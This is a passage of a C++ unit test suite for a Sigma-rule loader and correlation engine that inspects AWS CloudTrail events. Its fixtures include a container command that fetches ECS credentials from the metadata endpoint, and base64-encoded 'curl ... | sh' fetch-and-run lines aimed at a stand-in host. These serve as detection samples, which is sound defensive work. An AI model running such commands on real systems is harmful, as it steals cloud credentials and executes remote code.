  EXPECT_TRUE(matches(cased, R"("eventName":"A","userAgent":"Mallory")"));
  EXPECT_FALSE(matches(cased, R"("eventName":"A","userAgent":"mallory")"));
  Rule re = load1("  kw:\n    '|re':\n      - 'AKIA[A-Z0-9]{16}'\n  condition: kw\n");
  EXPECT_TRUE(
      matches(re, R"("eventName":"A","userIdentity":{"accessKeyId":"AKIAIOSFODNN7EXAMPLE"})"));
  EXPECT_FALSE(matches(re, R"("eventName":"A","userIdentity":{"accessKeyId":"ASIAXXX"})"));
}

TEST(SigmaRefuses, KeywordMisuse) {
  std::string mixed = detection_error("  kw:\n    - 'a'\n    - {eventName: B}\n  condition: kw\n");
  expect_names_rule(mixed);
  EXPECT_HAS(mixed, "mixes maps and plain values");
  EXPECT_HAS(detection_error("  kw:\n    '|cidr': 10.0.0.0/8\n  condition: kw\n"),
             "keyword search (no field)");
  EXPECT_HAS(detection_error("  kw:\n    - null\n  condition: kw\n"), "null cannot be used");
}

TEST(Sigma, ObjectMemberIsMatchedOnItsJsonText) {
  Rule r = load1(
      "  sel:\n    eventName: PutBucketVersioning\n    requestParameters|contains: "
      "'\"Status\":\"Suspended\"'\n  condition: sel\n");
  EXPECT_TRUE(matches(
      r,
      R"("eventName":"PutBucketVersioning","requestParameters":{"bucketName":"b","VersioningConfiguration":{"Status": "Suspended"}})"));
  EXPECT_FALSE(matches(
      r,
      R"("eventName":"PutBucketVersioning","requestParameters":{"VersioningConfiguration":{"Status":"Enabled"}})"));
  EXPECT_FALSE(matches(r, R"("eventName":"PutBucketVersioning","requestParameters":null)"));
  EXPECT_FALSE(matches(r, R"("eventName":"PutBucketVersioning")"));
  // A path below the member still reads the leaf as before.
  Rule leaf = load1(
      "  sel:\n    requestParameters.VersioningConfiguration.Status: suspended\n  condition: "
      "sel\n");
  EXPECT_TRUE(matches(
      leaf,
      R"("eventName":"A","requestParameters":{"VersioningConfiguration":{"Status":"Suspended"}})"));
  Rule re =
      load1("  sel:\n    responseElements|re: '\"publiclyAccessible\":true'\n  condition: sel\n");
  EXPECT_TRUE(matches(
      re, R"("eventName":"A","responseElements":{"dBInstance":{"publiclyAccessible": true}})"));
  EXPECT_FALSE(matches(re, R"("eventName":"A","responseElements":{"publiclyAccessible":false})"));
  // exists on a member is about the member, not its text.
  Rule ex = load1("  sel:\n    additionalEventData|exists: true\n  condition: sel\n");
  EXPECT_TRUE(matches(ex, R"("eventName":"A","additionalEventData":{"MFAUsed":"No"})"));
  EXPECT_FALSE(matches(ex, R"("eventName":"A")"));
}

TEST(Sigma, ArrayInTheMiddleOfAnEcsPath) {
  Rule r = load1(
      "  sel:\n    requestParameters.containerDefinitions.command|contains: "
      "'$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'\n  condition: sel\n");
  EXPECT_TRUE(matches(
      r,
      R"("eventName":"RegisterTaskDefinition","requestParameters":{"containerDefinitions":[{"name":"a","command":["sh"]},{"name":"b","command":["sh","-c","curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]}]})"));
  EXPECT_FALSE(matches(
      r,
      R"("eventName":"RegisterTaskDefinition","requestParameters":{"containerDefinitions":[{"command":["nginx"]}]})"));
}

TEST(Sigma, FieldRef) {
  Rule eq = load1(
      "  sel:\n    userIdentity.userName|fieldref: requestParameters.userName\n  condition: sel\n");
  EXPECT_TRUE(matches(
      eq,
      R"("eventName":"A","userIdentity":{"userName":"Alice"},"requestParameters":{"userName":"alice"})"));
  EXPECT_FALSE(matches(
      eq,
      R"("eventName":"A","userIdentity":{"userName":"alice"},"requestParameters":{"userName":"bob"})"));
  EXPECT_FALSE(matches(eq, R"("eventName":"A","userIdentity":{"userName":"alice"})"));
  Rule own = load1(
      "  sel:\n    eventName: UpdateLoginProfile\n  self:\n    userIdentity.arn|fieldref|endswith: "
      "requestParameters.userName\n  condition: sel and not self\n");
  EXPECT_FALSE(matches(
      own,
      R"("eventName":"UpdateLoginProfile","userIdentity":{"arn":"arn:aws:iam::1:user/alice"},"requestParameters":{"userName":"alice"})"));
  EXPECT_TRUE(matches(
      own,
      R"("eventName":"UpdateLoginProfile","userIdentity":{"arn":"arn:aws:iam::1:user/alice"},"requestParameters":{"userName":"bob"})"));
  Rule cont = load1(
      "  sel:\n    userIdentity.arn|fieldref|contains: responseElements.accessKey.userName\n  "
      "condition: sel\n");
  EXPECT_TRUE(matches(
      cont,
      R"("eventName":"CreateAccessKey","userIdentity":{"arn":"arn:aws:iam::1:user/carol"},"responseElements":{"accessKey":{"userName":"carol"}})"));
  EXPECT_HAS(detection_error("  sel:\n    a|fieldref|re: b\n  condition: sel\n"),
             "'fieldref' combines only with");
}

TEST(Sigma, ExpandNamesAConfiguredList) {
  Rule r = load1(
      "  sel:\n    eventName: ConsoleLogin\n  office:\n    sourceIPAddress|expand: "
      "'%office_ips%'\n  condition: sel and not office\n");
  OneList lists("office_ips", {"198.51.100.7"});
  EXPECT_FALSE(
      matches_with(r, R"("eventName":"ConsoleLogin","sourceIPAddress":"198.51.100.7")", &lists));
  EXPECT_TRUE(
      matches_with(r, R"("eventName":"ConsoleLogin","sourceIPAddress":"203.0.113.9")", &lists));
  std::string err =
      detection_error("  sel:\n    sourceIPAddress|expand: office\n  condition: sel\n");
  expect_names_rule(err);
  EXPECT_HAS(err, "one placeholder '%name%'");
  EXPECT_HAS(detection_error("  sel:\n    a|expand: '%x%-%y%'\n  condition: sel\n"),
             "one placeholder");
  EXPECT_HAS(detection_error("  sel:\n    a|expand|contains: '%x%'\n  condition: sel\n"),
             "'expand' cannot be combined");
}

TEST(Sigma, Base64AndBase64Offset) {
  Rule plain =
      load1("  sel:\n    requestParameters.userData|base64: '#!/bin/bash'\n  condition: sel\n");
  EXPECT_TRUE(
      matches(plain, R"("eventName":"A","requestParameters":{"userData":"IyEvYmluL2Jhc2g="})"));
  EXPECT_FALSE(matches(plain, R"("eventName":"A","requestParameters":{"userData":"#!/bin/bash"})"));
  // `curl ` at each of the three byte offsets of a longer encoded script.
  Rule off = load1(
      "  sel:\n    requestParameters.userData|base64offset|contains: 'curl '\n  condition: sel\n");
  for (const char* enc :
       {"Y3VybCBodHRwOi8vZS5leGFtcGxlL3ggfCBzaA==", "eGN1cmwgaHR0cDovL2UuZXhhbXBsZS94IHwgc2g=",
        "eHljdXJsIGh0dHA6Ly9lLmV4YW1wbGUveCB8IHNo"}) {
    EXPECT_TRUE(matches(
        off, std::string(R"("eventName":"A","requestParameters":{"userData":")") + enc + "\"}"))
        << enc;
  }
  EXPECT_FALSE(matches(off, R"("eventName":"A","requestParameters":{"userData":"ZWNobyBoaQ=="})"));
  // UTF-16LE text (PowerShell -EncodedCommand style) before base64.
  Rule wide = load1(
      "  sel:\n    requestParameters.command|wide|base64offset|contains: whoami\n  condition: "
      "sel\n");
  EXPECT_TRUE(matches(
      wide,
      R"("eventName":"A","requestParameters":{"command":"ZQBjAGgAbwAgAHcAaABvAGEAbQBpAA=="})"));
  EXPECT_TRUE(matches(
      wide, R"("eventName":"A","requestParameters":{"command":"eAB5ACAAdwBoAG8AYQBtAGkA"})"));
  EXPECT_FALSE(matches(wide, R"("eventName":"A","requestParameters":{"command":"d2hvYW1p"})"));
  // all: every value, each through its three offsets.
  Rule both = load1(
      "  sel:\n    requestParameters.userData|base64offset|contains|all:\n      - 'curl '\n      - "
      "'| sh'\n  condition: sel\n");
  EXPECT_TRUE(matches(
      both,
      R"("eventName":"A","requestParameters":{"userData":"Y3VybCBodHRwOi8vZS5leGFtcGxlL3ggfCBzaA=="})"));
  EXPECT_HAS(detection_error("  sel:\n    a|base64offset: x\n  condition: sel\n"),
             "'base64offset' must be followed by 'contains'");
  EXPECT_HAS(detection_error("  sel:\n    a|base64|re: x\n  condition: sel\n"),
             "only apply to plain");
}

TEST(Sigma, Utf16Variants) {
  // BOM + little-endian, big-endian, and a non-ASCII character (UTF-8 in the rule).
  Rule bom = load1("  sel:\n    requestParameters.v|utf16|base64: hi\n  condition: sel\n");
  EXPECT_TRUE(matches(bom, R"("eventName":"A","requestParameters":{"v":"//5oAGkA"})"));
  Rule be = load1("  sel:\n    requestParameters.v|utf16be|base64: hi\n  condition: sel\n");
  EXPECT_TRUE(matches(be, R"("eventName":"A","requestParameters":{"v":"AGgAaQ=="})"));
  EXPECT_FALSE(matches(be, R"("eventName":"A","requestParameters":{"v":"//5oAGkA"})"));
  Rule accent =
      load1("  sel:\n    requestParameters.v|wide|base64: \"\\u00e9\"\n  condition: sel\n");
  EXPECT_TRUE(matches(accent, R"("eventName":"A","requestParameters":{"v":"6QA="})"));
  EXPECT_HAS(detection_error("  sel:\n    a|base64|wide: x\n  condition: sel\n"),
             "must come before 'base64'");
}

TEST(Sigma, Windash) {
  Rule r = load1(
      "  sel:\n    requestParameters.parameters|windash|contains: ' -force'\n  condition: sel\n");
  for (const char* v :
       {"x -force", "x /force", "x \u2013force", "x \u2014force", "x \u2015force"}) {
    EXPECT_TRUE(matches(
        r, std::string(R"("eventName":"A","requestParameters":{"parameters":")") + v + "\"}"))
        << v;
  }
  EXPECT_FALSE(matches(r, R"("eventName":"A","requestParameters":{"parameters":"x force"})"));
}

TEST(Sigma, CloudTrailEventCategory) {
  std::vector<Rule> rules;
  std::string err;
  ASSERT_TRUE(detect::load_sigma(R"(title: Mgmt
logsource: {product: aws, service: cloudtrail, category: management}
detection: {sel: {eventName: DeleteDetector}, condition: sel}
)",
                                 "c.yml", &rules, &err))
      << err;
  EXPECT_TRUE(matches(rules[0], R"("eventName":"DeleteDetector","eventCategory":"Management")"));
  EXPECT_TRUE(matches(rules[0], R"("eventName":"DeleteDetector")"));  // older records
  EXPECT_FALSE(matches(rules[0], R"("eventName":"DeleteDetector","eventCategory":"Data")"));
  EXPECT_EQ(rules[0].index_names, (std::vector<std::string>{"deletedetector"}));
  std::string bad = load_error(
      "title: Test Rule\nid: t-1\nlogsource: {product: aws, service: cloudtrail, category: "
      "process_creation}\ndetection: {sel: {a: b}, condition: sel}\n");
  expect_names_rule(bad);
  EXPECT_HAS(bad, "category 'process_creation' is not supported");
}

TEST(Sigma, ServiceCloudTrailWithoutProduct) {
  // Older SigmaHQ rules name only the service.
  std::vector<Rule> rules;
  std::string err;
  ASSERT_TRUE(detect::load_sigma(
      "title: Old\nlogsource: {service: cloudtrail}\ndetection: {sel: {eventName: A}, condition: "
      "sel}\n",
      "o.yml", &rules, &err))
      << err;
  EXPECT_TRUE(matches(rules[0], R"("eventName":"A")"));
  EXPECT_HAS(load_error("title: Test Rule\nid: t-1\nlogsource: {service: ec2}\ndetection: {sel: "
                        "{eventName: A}, condition: sel}\n"),
             "service 'ec2'");
}

TEST(Sigma, FindingTypeInGuardDutyGrammar) {
  std::vector<Rule> rules;
  std::string err;
  ASSERT_TRUE(detect::load_sigma(R"(title: Bucket copied out
tags: [attack.t1537, attack.exfiltration]
logsource: {product: aws, service: cloudtrail}
detection: {sel: {eventSource: s3.amazonaws.com, eventName: PutBucketReplication}, condition: sel}
---
title: no tags at all
logsource: {product: aws, service: cloudtrail}
detection: {sel: {eventSource: [s3.amazonaws.com, ec2.amazonaws.com]}, condition: sel}
---
title: Lateral
tags: [attack.lateral_movement]
logsource: {product: aws, service: cloudtrail}
detection: {sel: {eventSource: ec2.amazonaws.com}, condition: sel}
)",
                                 "t.yml", &rules, &err))
      << err;
  EXPECT_EQ(rules[0].type, "Exfiltration:S3/BucketCopiedOut.Sigma");
  EXPECT_EQ(rules[1].type, "UnauthorizedAccess:IAMUser/NoTagsAtAll.Sigma");
  EXPECT_EQ(rules[2].type, "UnauthorizedAccess:EC2/Lateral.Sigma");
  std::string bad = load_error(R"(title: Test Rule
id: t-1
sentinel_type: JustAName
logsource: {product: aws, service: cloudtrail}
detection: {sel: {eventName: A}, condition: sel}
)");
  expect_names_rule(bad);
  EXPECT_HAS(bad, "not in the grammar");
}

// ---------------------------------------------------------------------------------------------
// Correlations (original rules)

const char* kFailedLogin = R"(title: Console login failed
name: login_failed
logsource: {product: aws, service: cloudtrail}
detection:
  sel:
    eventName: ConsoleLogin
    responseElements.ConsoleLogin: Failure
  condition: sel
level: low
)";

const char* kLoginOk = R"(title: Console login succeeded
id: 5d0c4b8e-1111-4c2a-9e55-000000000002
name: login_ok
logsource: {product: aws, service: cloudtrail}
detection:
  sel:
    eventName: ConsoleLogin
    responseElements.ConsoleLogin: Success
  condition: sel
)";

std::vector<Rule> load_text(const std::string& text) {
  std::vector<Rule> rules;
  std::string err;
  EXPECT_TRUE(detect::load_sigma(text, "corr.yml", &rules, &err)) << err;
  return rules;
}

const Rule* find_rule(const std::vector<Rule>& rules, const std::string& id) {
  for (const auto& r : rules) {
    if (r.id == id) return &r;
  }
  ADD_FAILURE() << "no rule " << id;
  return nullptr;
}

TEST(SigmaCorrelation, EventCountIsAThreshold) {
  auto rules = load_text(std::string(kFailedLogin) + R"(---
title: Many failed console logins
id: c-1
correlation:
  type: event_count
  rules: login_failed
  group-by: [sourceIPAddress]
  timespan: 10m
  condition: {gte: 5}
tags: [attack.credential-access, attack.t1110]
level: high
)");
  ASSERT_EQ(rules.size(), 2u);
  const Rule* base = find_rule(rules, "login_failed");
  const Rule* c = find_rule(rules, "c-1");
  ASSERT_TRUE(base && c);
  EXPECT_FALSE(base->enabled);  // generate: false (the default) silences the base rule
  EXPECT_TRUE(c->enabled);
  EXPECT_EQ(c->stateful.kind, detect::StatefulSpec::Kind::kThreshold);
  EXPECT_EQ(c->stateful.threshold, 5u);
  EXPECT_EQ(c->stateful.window_ms, 10 * 60 * 1000);
  ASSERT_EQ(c->stateful.group_by.size(), 1u);
  EXPECT_EQ(c->stateful.group_by[0].text, "sourceIPAddress");
  EXPECT_EQ(c->index_names, (std::vector<std::string>{"consolelogin"}));
  EXPECT_EQ(c->type, "CredentialAccess:IAMUser/ManyFailedConsoleLogins.Sigma");
  EXPECT_DOUBLE_EQ(c->severity.value, 8.0);
  EXPECT_EQ(c->source, "corr.yml#2");
  EXPECT_TRUE(
      matches(*c, R"("eventName":"ConsoleLogin","responseElements":{"ConsoleLogin":"Failure"})"));
  EXPECT_FALSE(
      matches(*c, R"("eventName":"ConsoleLogin","responseElements":{"ConsoleLogin":"Success"})"));
}

TEST(SigmaCorrelation, GtAddsOneAndGenerateKeepsBaseRules) {
  // The correlation first: it may come before the rules it names.
  auto rules = load_text(std::string(R"(title: Burst
id: c-2
correlation:
  type: event_count
  rules: [login_failed, 5d0c4b8e-1111-4c2a-9e55-000000000002]
  group-by: userIdentity.arn
  timespan: 1h
  condition: {gt: 9}
  generate: true
---
)") + kFailedLogin + "---\n" +
                         kLoginOk);
  ASSERT_EQ(rules.size(), 3u);
  const Rule* c = find_rule(rules, "c-2");
  ASSERT_NE(c, nullptr);
  EXPECT_EQ(c->stateful.threshold, 10u);
  EXPECT_EQ(c->stateful.window_ms, 3600 * 1000);
  EXPECT_TRUE(find_rule(rules, "login_failed")->enabled);
  EXPECT_TRUE(
      matches(*c, R"("eventName":"ConsoleLogin","responseElements":{"ConsoleLogin":"Success"})"));
}

TEST(SigmaCorrelation, ValueCountIsADistinctCount) {
  auto rules = load_text(R"(title: Bucket listing
name: list_objects
logsource: {product: aws, service: cloudtrail}
detection: {sel: {eventSource: s3.amazonaws.com, eventName: [ListObjects, GetObject]}, condition: sel}
---
title: One identity reads many buckets
id: c-3
correlation:
  type: value_count
  rules: [list_objects]
  group-by: [userIdentity.arn]
  timespan: 30s
  condition:
    field: requestParameters.bucketName
    gte: 3
)");
  const Rule* c = find_rule(rules, "c-3");
  ASSERT_NE(c, nullptr);
  EXPECT_EQ(c->stateful.kind, detect::StatefulSpec::Kind::kDistinct);
  EXPECT_EQ(c->stateful.distinct_field.text, "requestParameters.bucketName");
  EXPECT_EQ(c->stateful.threshold, 3u);
  EXPECT_EQ(c->stateful.window_ms, 30 * 1000);
  EXPECT_EQ(c->type, "UnauthorizedAccess:S3/OneIdentityReadsManyBuckets.Sigma");
}

TEST(SigmaCorrelation, TemporalOrderedIsASequence) {
  auto rules = load_text(std::string(kFailedLogin) + "---\n" + kLoginOk + R"(---
title: Failed then successful login
id: c-4
correlation:
  type: temporal_ordered
  rules: [login_failed, login_ok]
  group-by: [sourceIPAddress]
  timespan: 15m
)");
  const Rule* c = find_rule(rules, "c-4");
  ASSERT_NE(c, nullptr);
  EXPECT_EQ(c->stateful.kind, detect::StatefulSpec::Kind::kSequence);
  ASSERT_EQ(c->stateful.steps.size(), 2u);
  EXPECT_EQ(c->stateful.step_names, (std::vector<std::string>{"login_failed", "login_ok"}));
  EXPECT_EQ(c->stateful.window_ms, 15 * 60 * 1000);
  EXPECT_FALSE(find_rule(rules, "login_failed")->enabled);
  EXPECT_FALSE(find_rule(rules, "5d0c4b8e-1111-4c2a-9e55-000000000002")->enabled);
}

TEST(SigmaRefuses, CorrelationMistakes) {
  auto corr = [](const std::string& body) {
    return load_error(std::string(kFailedLogin) + "---\ntitle: Test Rule\nid: t-1\ncorrelation:\n" +
                      body);
  };
  std::string t = corr("  type: temporal\n  rules: [login_failed]\n  timespan: 5m\n");
  expect_names_rule(t);
  EXPECT_HAS(t, "bad.yml#2");
  EXPECT_HAS(t, "'temporal' (the rules in any order) is not supported");
  EXPECT_HAS(corr("  type: event_count\n  rules: [login_failed]\n  timespan: 5m\n  condition: "
                  "{lt: 3}\n"),
             "condition 'lt' is not supported");
  EXPECT_HAS(corr("  type: event_count\n  rules: [nope]\n  timespan: 5m\n  condition: {gte: 3}\n"),
             "rule 'nope' is not a detection rule of this file");
  EXPECT_HAS(corr("  type: event_count\n  rules: [login_failed]\n  condition: {gte: 3}\n"),
             "'timespan' is required");
  EXPECT_HAS(corr("  type: event_count\n  rules: [login_failed]\n  timespan: 5y\n  condition: "
                  "{gte: 3}\n"),
             "unit must be");
  EXPECT_HAS(corr("  type: value_count\n  rules: [login_failed]\n  timespan: 5m\n  condition: "
                  "{gte: 3}\n"),
             "value_count needs condition.field");
  EXPECT_HAS(corr("  type: event_count\n  rules: [login_failed]\n  timespan: 5m\n  aliases: {ip: "
                  "{login_failed: sourceIPAddress}}\n  condition: {gte: 3}\n"),
             "'aliases'");
  EXPECT_HAS(corr("  type: temporal_ordered\n  rules: [login_failed]\n  timespan: 5m\n"),
             "two or more rules");
  EXPECT_HAS(corr("  type: something\n  rules: [login_failed]\n  timespan: 5m\n"),
             "unknown type 'something'");
  // A correlation naming a correlation (chaining) is refused.
  std::string chained = load_error(std::string(kFailedLogin) + R"(---
title: Inner
name: inner
correlation: {type: event_count, rules: [login_failed], timespan: 5m, condition: {gte: 2}}
---
title: Test Rule
id: t-1
correlation: {type: event_count, rules: [inner], timespan: 5m, condition: {gte: 2}}
)");
  EXPECT_HAS(chained, "rule 'inner' is not a detection rule of this file");
}

// ---------------------------------------------------------------------------------------------
// Through the engine

class EngineSink : public ingest::EventSink {
 public:
  explicit EngineSink(detect::Engine* e) : engine_(e) {}
  void on_cloudtrail(const ingest::CloudTrailEvent& e) override {
    EventView ev(e, shared_scratch());
    engine_->on_event(ev);
  }
  void on_flow(const ingest::FlowRecord&) override {}
  void on_dns(const ingest::DnsQuery&) override {}
  void on_guardduty(const ingest::GuardDutyFinding&) override {}
  void on_digest(const ingest::DigestFile&) override {}
  void on_reject(const Reject&) override { ++rejects; }
  int rejects = 0;

 private:
  detect::Engine* engine_;
};

std::vector<findings::Finding> run_engine(std::vector<Rule> rules, const std::string& data,
                                          const std::string& path = "t.json") {
  std::vector<std::string> errs;
  detect::Engine engine(std::move(rules), detect::EngineOptions{}, &errs);
  EXPECT_TRUE(errs.empty()) << (errs.empty() ? "" : errs.front());
  EngineSink sink(&engine);
  ingest::Reader reader(ingest::ParseOptions{});
  reader.read_bytes(path, data, sink);
  EXPECT_EQ(sink.rejects, 0);
  engine.end_of_input_object();
  engine.finish();
  return engine.take_findings();
}

std::string login(const std::string& time, const std::string& ip, const std::string& outcome,
                  int n) {
  return R"({"eventVersion":"1.08","eventTime":")" + time +
         R"(","awsRegion":"us-east-1","eventID":"ev-)" + std::to_string(n) +
         R"(","recipientAccountId":"111122223333","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","sourceIPAddress":")" +
         ip +
         R"(","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/u"},"responseElements":{"ConsoleLogin":")" +
         outcome + R"("}})";
}

TEST(SigmaCorrelation, RunsInTheEngine) {
  auto rules = load_text(std::string(kFailedLogin) + "---\n" + kLoginOk + R"(---
title: Many failed console logins
id: c-count
correlation:
  type: event_count
  rules: [login_failed]
  group-by: [sourceIPAddress]
  timespan: 10m
  condition: {gte: 3}
tags: [attack.credential-access]
---
title: Failed then successful login
id: c-seq
correlation:
  type: temporal_ordered
  rules: [login_failed, login_ok]
  group-by: [sourceIPAddress]
  timespan: 15m
  generate: true
tags: [attack.initial-access]
)");
  // 203.0.113.5: three failures in two minutes, then a success (both correlations fire);
  // 198.51.100.2: two failures an hour apart, then a success 20 minutes later (neither).
  std::vector<std::string> recs = {
      login("2024-03-01T10:00:00Z", "203.0.113.5", "Failure", 1),
      login("2024-03-01T10:01:00Z", "203.0.113.5", "Failure", 2),
      login("2024-03-01T10:02:00Z", "203.0.113.5", "Failure", 3),
      login("2024-03-01T10:03:00Z", "203.0.113.5", "Success", 4),
      login("2024-03-01T09:00:00Z", "198.51.100.2", "Failure", 5),
      login("2024-03-01T10:00:00Z", "198.51.100.2", "Failure", 6),
      login("2024-03-01T10:20:00Z", "198.51.100.2", "Success", 7),
  };
  std::string data = "{\"Records\":[";
  for (std::size_t i = 0; i < recs.size(); ++i) data += (i ? "," : "") + recs[i];
  data += "]}";
  auto fs = run_engine(rules, data);
  std::map<std::string, int> by_type;
  for (const auto& f : fs) ++by_type[f.type];
  EXPECT_EQ(by_type["CredentialAccess:IAMUser/ManyFailedConsoleLogins.Sigma"], 1);
  EXPECT_EQ(by_type["InitialAccess:IAMUser/FailedThenSuccessfulLogin.Sigma"], 1);
  // The base rules: login_failed is silenced by c-count (generate false) but c-seq generates.
  int base_failed = 0, base_ok = 0;
  for (const auto& f : fs) {
    if (f.type == "UnauthorizedAccess:IAMUser/ConsoleLoginFailed.Sigma") base_failed += f.count;
    if (f.type == "UnauthorizedAccess:IAMUser/ConsoleLoginSucceeded.Sigma") base_ok += f.count;
  }
  EXPECT_EQ(base_failed, 0);
  EXPECT_EQ(base_ok, 2);
}

// ---------------------------------------------------------------------------------------------
// Real CloudTrail events from the public corpus (not ours): Panther's rule test events and the
// OpenSearch catalogue's 840-record sample.

/// The `log` objects (minified) and expected results of Panther's tests for one rule id.
std::vector<std::pair<std::string, bool>> panther_tests(const std::string& corpus,
                                                        const std::string& rule_id) {
  std::vector<std::pair<std::string, bool>> out;
  std::ifstream in(corpus +
                   "/panther-labs__panther-analysis/_extracted/tests_AWS_CloudTrail.jsonl");
  EXPECT_TRUE(in) << "Panther tests not found";
  std::string line;
  simdjson::dom::parser parser;
  while (std::getline(in, line)) {
    simdjson::dom::element d;
    if (parser.parse(line).get(d) != simdjson::SUCCESS) continue;
    std::string_view id;
    if (d["rule_id"].get_string().get(id) != simdjson::SUCCESS || id != rule_id) continue;
    bool expected = false;
    simdjson::dom::element log;
    if (d["expected_result"].get_bool().get(expected) != simdjson::SUCCESS ||
        d["log"].get(log) != simdjson::SUCCESS) {
      continue;
    }
    out.emplace_back(simdjson::minify(log), expected);
  }
  return out;
}

/// Evaluates `r` on one raw record (as the ingest pipeline reads it).
bool matches_record(const Rule& r, const std::string& record) {
  EvalSink sink(r);
  ingest::Reader reader(ingest::ParseOptions{});
  reader.read_bytes("panther.json", "{\"Records\":[" + record + "]}", sink);
  EXPECT_EQ(sink.rejects, 0) << record;
  return sink.results.size() == 1 && sink.results[0];
}

TEST(SigmaCorpus, PantherTestEventsAgreeWithOurRules) {
  SENTINEL_REQUIRE_CORPUS(corpus);
  // Our rules for what two Panther rules look for, written in Sigma: S3 versioning suspended or
  // disabled (a string match on the requestParameters object), and a login profile changed for
  // another user (fieldref), without a forced reset.
  auto rules = load_text(R"(title: Bucket versioning switched off
id: s-1
logsource: {product: aws, service: cloudtrail}
detection:
  sel:
    eventSource: s3.amazonaws.com
    eventName: PutBucketVersioning
    requestParameters|contains:
      - '"Status":"Suspended"'
      - '"Status":"Disabled"'
  failed:
    errorCode|exists: true
  condition: sel and not failed
---
title: Password of another user changed
id: s-2
logsource: {product: aws, service: cloudtrail}
detection:
  sel:
    eventName: UpdateLoginProfile
    requestParameters.passwordResetRequired: false
  own:
    userIdentity.arn|fieldref|endswith: requestParameters.userName
  condition: sel and not own
)");
  ASSERT_EQ(rules.size(), 2u);
  int checked = 0;
  for (const auto& [rule, panther_id] : std::vector<std::pair<const Rule*, std::string>>{
           {&rules[0], "AWS.S3.SuspendVersioning"},
           {&rules[1], "AWS.User.Login.Profile.Modified"}}) {
    auto tests = panther_tests(corpus, panther_id);
    EXPECT_GE(tests.size(), 3u) << panther_id;
    for (const auto& [record, expected] : tests) {
      EXPECT_EQ(matches_record(*rule, record), expected) << panther_id << ": " << record;
      ++checked;
    }
  }
  EXPECT_GE(checked, 6);
}

TEST(SigmaCorpus, KeywordsOnPantherEvents) {
  SENTINEL_REQUIRE_CORPUS(corpus);
  // A keyword rule for TruffleHog's user agent, checked against Panther's TruffleHog tests: the
  // keyword finds the tool wherever the record names it.
  Rule r = load1(
      "  kw:\n    - 'trufflehog'\n  sel:\n    eventName: GetCallerIdentity\n  "
      "condition: sel and kw\n");
  auto tests = panther_tests(corpus, "AWS.STS.GetCallerIdentity.TruffleHog");
  ASSERT_GE(tests.size(), 2u);
  int positives = 0;
  for (const auto& [record, expected] : tests) {
    EXPECT_EQ(matches_record(r, record), expected) << record;
    positives += expected;
  }
  EXPECT_GE(positives, 1);
}

TEST(SigmaCorpus, CorrelationsOnTheOpenSearchSample) {
  SENTINEL_REQUIRE_CORPUS(corpus);
  const std::string path = corpus +
                           "/opensearch-project__opensearch-catalog/integrations/observability/"
                           "aws_cloudtrail/data/raw-large-samples.json";
  const std::string data = read_file(path);
  ASSERT_FALSE(data.empty()) << path;
  // Independently of the rules: the identity with the most S3 calls in the sample, and the
  // number of distinct buckets it touched (simdjson over the raw file).
  std::map<std::string, int> s3_calls;
  std::map<std::string, std::set<std::string>> buckets;
  {
    simdjson::dom::parser parser;
    simdjson::dom::element root;
    ASSERT_EQ(parser.parse(data).get(root), simdjson::SUCCESS);
    for (simdjson::dom::element rec : root["Records"].get_array()) {
      std::string_view src, arn, bucket;
      if (rec["eventSource"].get_string().get(src) || src != "s3.amazonaws.com") continue;
      if (rec["userIdentity"]["arn"].get_string().get(arn)) continue;
      ++s3_calls[std::string(arn)];
      if (!rec["requestParameters"]["bucketName"].get_string().get(bucket)) {
        buckets[std::string(arn)].insert(std::string(bucket));
      }
    }
  }
  ASSERT_FALSE(s3_calls.empty());
  auto top = std::max_element(s3_calls.begin(), s3_calls.end(),
                              [](const auto& a, const auto& b) { return a.second < b.second; });
  const std::size_t top_buckets = buckets[top->first].size();
  ASSERT_GE(top->second, 2);
  ASSERT_GE(top_buckets, 2u);
  // The whole sample spans five minutes: a one-hour window sees all of it.
  auto rules_for = [&](int count, std::size_t distinct) {
    return load_text(R"(title: S3 call
name: s3_call
logsource: {product: aws, service: cloudtrail}
detection: {sel: {eventSource: s3.amazonaws.com}, condition: sel}
---
title: Many S3 calls by one identity
id: k-count
correlation:
  type: event_count
  rules: s3_call
  group-by: [userIdentity.arn]
  timespan: 1h
  condition: {gte: )" +
                     std::to_string(count) + R"(}
---
title: Many buckets by one identity
id: k-distinct
correlation:
  type: value_count
  rules: s3_call
  group-by: [userIdentity.arn]
  timespan: 1h
  condition: {field: requestParameters.bucketName, gte: )" +
                     std::to_string(distinct) + "}\n");
  };
  auto count_of = [](const std::vector<findings::Finding>& fs, const std::string& prefix) {
    int n = 0;
    for (const auto& f : fs) n += f.type.rfind(prefix, 0) == 0;
    return n;
  };
  // At the top identity's totals both fire (for it at least); one above, neither can.
  auto at = run_engine(rules_for(top->second, top_buckets), data, path);
  EXPECT_GE(count_of(at, "UnauthorizedAccess:S3/ManyS3CallsByOneIdentity.Sigma"), 1);
  EXPECT_GE(count_of(at, "UnauthorizedAccess:S3/ManyBucketsByOneIdentity.Sigma"), 1);
  EXPECT_EQ(count_of(at, "UnauthorizedAccess:S3/S3Call.Sigma"), 0);  // base rule silenced
  int most_buckets = 0;
  for (const auto& [arn, set] : buckets) most_buckets = std::max<int>(most_buckets, set.size());
  auto above = run_engine(rules_for(top->second + 1, most_buckets + 1), data, path);
  int max_calls = 0;
  for (const auto& [arn, n] : s3_calls) max_calls = std::max(max_calls, n);
  if (max_calls == top->second) {
    EXPECT_EQ(count_of(above, "UnauthorizedAccess:S3/ManyS3CallsByOneIdentity.Sigma"), 0);
  }
  EXPECT_EQ(count_of(above, "UnauthorizedAccess:S3/ManyBucketsByOneIdentity.Sigma"), 0);
}

// ---------------------------------------------------------------------------------------------
// The compatibility check (`sentinel rules check --sigma`), CI-safe: original rules in
// tests/unit/detect_sigma/compat/, some loading and some refused.

TEST(SigmaCorrelation, RulesFolderLoaderKeepsTheFileWhole) {
  // The rules-folder loader hands a file with a correlation to load_sigma in one piece, so the
  // correlation finds the rule beside it (documents are otherwise loaded one by one).
  namespace fs = std::filesystem;
  const std::string file =
      (fs::path(source_dir()) / "tests" / "unit" / "detect_sigma" / "compat" / "ok_correlation.yml")
          .string();
  detect::LoadErrors errors;
  std::vector<Rule> rules = detect::load_rules(file, &errors);
  EXPECT_TRUE(errors.empty()) << (errors.empty() ? "" : errors.messages.front());
  ASSERT_EQ(rules.size(), 2u);
  const Rule* base = find_rule(rules, "denied_call");
